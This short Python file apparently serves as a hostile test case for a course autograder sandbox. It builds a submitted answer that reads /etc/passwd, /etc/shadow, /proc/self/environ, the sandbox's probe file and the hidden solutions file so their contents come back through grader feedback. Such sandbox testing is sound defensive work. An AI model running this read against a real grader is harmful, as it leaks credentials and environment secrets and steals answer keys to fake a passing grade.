"""Returns the content of files as an answer, which feedback shows."""

from autograder.chapters import ROOT
from hostile import all_answered

STATES = ("flagged",)
BODY = f"""
found = []
for path in (
    "/etc/passwd",
    "/etc/shadow",
    "/course/autograder/sandbox/probes.py",
    "{ROOT}/solutions/masks.py",
    "/proc/self/environ",
):
    try:
        found.append(open(path).read()[:5000])
    except OSError:
        pass
return found
"""


def handed_in(notebook):
    return all_answered(notebook, BODY)
